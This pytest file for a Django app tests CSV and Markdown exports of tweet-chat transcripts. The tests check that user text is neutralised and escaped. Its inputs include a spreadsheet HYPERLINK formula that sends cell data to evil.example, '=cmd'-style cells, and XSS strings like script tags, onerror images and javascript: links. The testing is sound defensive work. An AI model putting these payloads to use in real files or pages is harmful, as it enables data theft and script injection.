"""`GET /chats/<slug>/transcript.csv` and `/transcript.md`: the same posts as
`transcript.json` (architecture.md, section 4)."""
from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.http import StreamingHttpResponse

from chats.models import Chat
from chats.services.transcripts import CSV_COLUMNS, markdown_escape, neutralise_cell
from tests.factories import AuthorFactory, ChatFactory, PostFactory, QuestionFactory

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("default_series_hcsmca")]

BOM = "\ufeff".encode()


def csv_body(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[list[str]]:
    body = csv_body(response)
    assert body.startswith(BOM)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def expected_row(entry: dict) -> list[str]:
    """A JSON post entry as its CSV row: user text neutralised, ids as they are."""
    return [
        entry["id"], entry["platform"], neutralise_cell(entry["author"]), entry["created_at"],
        neutralise_cell(entry["text"]), entry["question"] or "", entry["reply_to"] or "",
        entry["repost_of"] or "", entry["quote_of"] or "", neutralise_cell(" ".join(entry["urls"])),
    ]


# --- CSV ---

def test_csv_response_is_a_streamed_utf8_attachment(client, imported_chat):
    response = client.get("/chats/hcsmca-116/transcript.csv")

    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse) and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="hcsmca-116.csv"'
    body = csv_body(response)
    assert body.startswith(BOM) and body.count(BOM) == 1
    assert body[len(BOM):].startswith(b"id,platform,author,created_at,text,")


def test_csv_rows_equal_the_json_posts(client, imported_chat):
    posts = client.get("/chats/hcsmca-116/transcript.json").json()["posts"]
    header, *rows = csv_rows(client.get("/chats/hcsmca-116/transcript.csv"))

    assert header == list(CSV_COLUMNS) == [
        "id", "platform", "author", "created_at", "text", "question", "reply_to", "repost_of", "quote_of", "urls",
    ]
    assert [row[0] for row in rows] == [post["id"] for post in posts]
    assert rows == [expected_row(post) for post in posts]
    retweet = rows[4]
    assert retweet[CSV_COLUMNS.index("repost_of")] == "1085625154618208256"
    amir = rows[2]
    assert amir[CSV_COLUMNS.index("urls")] == (
        "https://www.cochranelibrary.com/about/about-cochrane-reviews?utm_source=twitter&utm_medium=social"
    )
    # The reply starts with "@nurse_jo": user text, so neutralised.
    assert rows[3][CSV_COLUMNS.index("text")].startswith("'@nurse_jo So true")


def test_csv_ids_are_the_exact_external_ids_as_text(client):
    chat = ChatFactory(slug="hcsmca-400", number=400)
    PostFactory(chat=chat, external_id="1234567890123456789", reply_to_external_id="1234567890123456700",
                quote_of_external_id="1234567890123456701", text="hello")

    body = csv_body(client.get("/chats/hcsmca-400/transcript.csv")).decode("utf-8-sig")
    _, row = list(csv.reader(io.StringIO(body, newline="")))

    assert row[0] == "1234567890123456789"
    assert row[CSV_COLUMNS.index("reply_to")] == "1234567890123456700"
    assert row[CSV_COLUMNS.index("quote_of")] == "1234567890123456701"
    # Plain digits in the file: no ="..." wrapping, quotes or apostrophes around ids.
    assert "\r\n1234567890123456789,twitter," in body


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1 agreed", "-2 for that", "@x what do you think",
    "\tcmd", "\rcmd",
])
def test_csv_neutralises_formulas_in_user_text(client, text):
    chat = ChatFactory(slug="hcsmca-401", number=401)
    author = AuthorFactory(handle="=cmd")
    PostFactory(chat=chat, author=author, external_id="1085624398153904999", text=text,
                urls=["=http://evil.example/", "https://ok.example/"])

    _, row = csv_rows(client.get("/chats/hcsmca-401/transcript.csv"))

    assert row[CSV_COLUMNS.index("text")] == "'" + text
    assert row[CSV_COLUMNS.index("author")] == "'=cmd"
    assert row[CSV_COLUMNS.index("urls")] == "'=http://evil.example/ https://ok.example/"
    # Ids and dates are ours: never altered.
    assert row[0] == "1085624398153904999"
    assert row[CSV_COLUMNS.index("created_at")].endswith("Z") and row[CSV_COLUMNS.index("created_at")][0].isdigit()


def test_csv_leaves_ordinary_text_alone(client):
    chat = ChatFactory(slug="hcsmca-402", number=402)
    PostFactory(chat=chat, text="A1 I check who wrote it, and \"who\" paid =\nsecond line")

    _, row = csv_rows(client.get("/chats/hcsmca-402/transcript.csv"))

    assert row[CSV_COLUMNS.index("text")] == "A1 I check who wrote it, and \"who\" paid =\nsecond line"


def test_csv_uses_an_iterator_over_the_posts(client, monkeypatch):
    """Rows are produced lazily from a queryset iterator, not a list."""
    from django.db.models.query import QuerySet

    calls = []
    original = QuerySet.iterator

    def spy(self, *args, **kwargs):
        calls.append(self.model.__name__)
        return original(self, *args, **kwargs)

    monkeypatch.setattr(QuerySet, "iterator", spy)
    chat = ChatFactory(slug="hcsmca-403", number=403)
    PostFactory.create_batch(3, chat=chat)

    response = client.get("/chats/hcsmca-403/transcript.csv")
    assert calls == []  # nothing read yet: the rows come as the response is sent
    assert len(csv_rows(response)) == 4
    assert calls == ["Post"]


# --- Markdown ---

@pytest.fixture
def question_chat():
    chat = ChatFactory(slug="hcsmca-410", number=410, title="Caregivers online",
                       start=datetime(2019, 1, 16, 18, 0, tzinfo=UTC), end=datetime(2019, 1, 16, 19, 0, tzinfo=UTC))
    t1 = QuestionFactory(chat=chat, label="T1", text="Where do you look first?", position=0)
    t2 = QuestionFactory(chat=chat, label="T2", text="What helps?", position=2)
    t1a = QuestionFactory(chat=chat, label="T1a", text="And for your family?", position=1, parent=t1)
    host = AuthorFactory(handle="hcsmca_mod")
    jo = AuthorFactory(handle="nurse_jo")
    amir = AuthorFactory(handle="dr_amir")
    kate = AuthorFactory(handle="kate")
    at = lambda minutes: chat.start + timedelta(minutes=minutes)  # noqa: E731
    PostFactory(chat=chat, author=host, external_id="1085624398153900001", created_at=at(0),
                text="T1: Where do you look first?", question=t1)
    PostFactory(chat=chat, author=amir, external_id="1085624398153900003", created_at=at(3),
                text="A1 the library", question=t1)
    PostFactory(chat=chat, author=jo, external_id="1085624398153900002", created_at=at(2),
                text="A1 I ask my nurse", question=t1)
    PostFactory(chat=chat, author=host, external_id="1085624398153900004", created_at=at(4),
                text="RT @dr_amir: A1 the library", question=t1, repost_of_external_id="1085624398153900003")
    PostFactory(chat=chat, author=kate, external_id="1085624398153900005", created_at=at(5),
                text="RT @dr_amir: A1 the library", question=t1, repost_of_external_id="1085624398153900003")
    PostFactory(chat=chat, author=jo, external_id="1085624398153900006", created_at=at(7),
                text="A1a my sister's pharmacist", question=t1a)
    PostFactory(chat=chat, author=amir, external_id="1085624398153900007", created_at=at(20),
                text="A2 plain language", question=t2)
    PostFactory(chat=chat, author=kate, external_id="1085624398153900008", created_at=at(30),
                text="Thanks all, see you next week")
    return chat


def test_markdown_response(client, question_chat):
    response = client.get("/chats/hcsmca-410/transcript.md")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/markdown; charset=utf-8"
    assert response["Content-Disposition"].startswith("inline")


def test_markdown_groups_posts_by_question(client, question_chat):
    text = client.get("/chats/hcsmca-410/transcript.md").content.decode()
    lines = [line for line in text.splitlines() if line]

    assert lines[0] == "# \\#hcsmca 410: Caregivers online"
    # 18:00 UTC is 13:00 in Toronto (the series' timezone).
    assert lines[1].startswith("Wednesday 16 January 2019, 13:00–14:00 EST")
    assert lines[2:] == [
        "## T1: Where do you look first?",
        "- **@hcsmca\\_mod** (13:00): T1: Where do you look first?",
        "- **@nurse\\_jo** (13:02): A1 I ask my nurse",
        "- **@dr\\_amir** (13:03): A1 the library (retweeted 2 times)",
        "### T1a: And for your family?",
        "- **@nurse\\_jo** (13:07): A1a my sister's pharmacist",
        "## T2: What helps?",
        "- **@dr\\_amir** (13:20): A2 plain language",
        "## Other posts",
        "- **@kate** (13:30): Thanks all, see you next week",
    ]


def test_markdown_folds_retweets_of_the_imported_chat(client, imported_chat):
    text = client.get("/chats/hcsmca-116/transcript.md").content.decode()

    assert "RT @dr" not in text and "RT \\@dr" not in text
    assert "(retweeted 1 time)" in text
    assert text.count("- **@") == 5  # six posts, the retweet folded
    assert ("<https://www.cochranelibrary.com/about/about-cochrane-reviews"
            "?utm_source=twitter&utm_medium=social> then ask") in text


def test_markdown_lists_a_retweet_whose_original_is_elsewhere(client):
    chat = ChatFactory(slug="hcsmca-412", number=412)
    PostFactory(chat=chat, external_id="1085624398153900021", text="RT @who: old news",
                repost_of_external_id="1000000000000000001")

    text = client.get("/chats/hcsmca-412/transcript.md").content.decode()

    assert "## Other posts" in text
    assert text.count("- **@") == 1 and "retweet: RT @who: old news" in text


def test_markdown_escapes_user_text(client):
    chat = ChatFactory(slug="hcsmca-411", number=411)
    PostFactory(chat=chat, external_id="1085624398153900011", text="# heading\n## another\n- item")
    PostFactory(chat=chat, external_id="1085624398153900012", text="[link](javascript:alert(1))")
    PostFactory(chat=chat, external_id="1085624398153900013", text="<script>alert(1)</script> *bold* `code` \\")
    PostFactory(chat=chat, external_id="1085624398153900014", text="see https://example.org/a_b?x=1 and javascript:x")

    text = client.get("/chats/hcsmca-411/transcript.md").content.decode()
    posts = [line for line in text.splitlines() if line.startswith("- **@")]

    assert posts[0].endswith(": \\# heading \\#\\# another - item")
    assert posts[1].endswith(": \\[link\\](javascript:alert(1))")
    assert posts[2].endswith(": \\<script\\>alert(1)\\</script\\> \\*bold\\* \\`code\\` \\\\")
    assert posts[3].endswith(": see <https://example.org/a_b?x=1> and javascript:x")
    assert "<script>" not in text and "](javascript" not in text.replace("\\]", "")
    assert not any(line.startswith("#") for line in text.splitlines()[1:] if not line.startswith(("## ", "### ")))


@pytest.mark.parametrize(("raw", "escaped"), [
    ("- item", "\\- item"),
    ("+ item", "\\+ item"),
    ("1. item", "1\\. item"),
    ("12) item", "12\\) item"),
    ("line one\r\nline two", "line one line two"),
    ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)\\>"),
    ("![x](http://evil.example/a.png)", "\\!\\[x\\](<http://evil.example/a.png>)"),
    ("ftp://files.example/x", "ftp://files.example/x"),
])
def test_markdown_escape(raw, escaped):
    assert markdown_escape(raw) == escaped


# --- Visibility and query counts ---

@pytest.mark.parametrize("extension", ["csv", "md"])
def test_hidden_and_unknown_chats_are_not_exported(client, extension):
    chat = ChatFactory(slug="hcsmca-420", number=420, visibility=Chat.Visibility.HIDDEN)
    PostFactory(chat=chat)

    assert client.get(f"/chats/hcsmca-420/transcript.{extension}").status_code == 404
    assert client.get(f"/chats/hcsmca-999/transcript.{extension}").status_code == 404


def _chat_with_posts(slug: str, number: int, count: int) -> Chat:
    chat = ChatFactory(slug=slug, number=number)
    question = QuestionFactory(chat=chat, label="T1", position=0)
    QuestionFactory(chat=chat, label="T1a", position=1, parent=question)
    posts = PostFactory.create_batch(count, chat=chat, question=question)
    PostFactory(chat=chat, repost_of_external_id=posts[0].external_id, question=question)
    return chat


@pytest.mark.parametrize("extension", ["csv", "md"])
def test_query_count_does_not_grow_with_posts(client, django_assert_max_num_queries, extension):
    small = _chat_with_posts("hcsmca-430", 430, 5)
    large = _chat_with_posts("hcsmca-431", 431, 50)

    for chat, posts in ((small, 6), (large, 51)):
        with django_assert_max_num_queries(3):
            response = client.get(f"/chats/{chat.slug}/transcript.{extension}")
            body = csv_body(response) if extension == "csv" else response.content
        assert response.status_code == 200
        if extension == "csv":
            assert len(list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))) == posts + 1
        else:
            assert body.decode().count("- **@") == posts - 1  # the retweet folded


def test_chat_page_links_to_the_downloads(client, question_chat):
    html = client.get("/chats/hcsmca-410/").content.decode()

    assert 'href="/chats/hcsmca-410/transcript.csv"' in html
    assert 'href="/chats/hcsmca-410/transcript.md"' in html
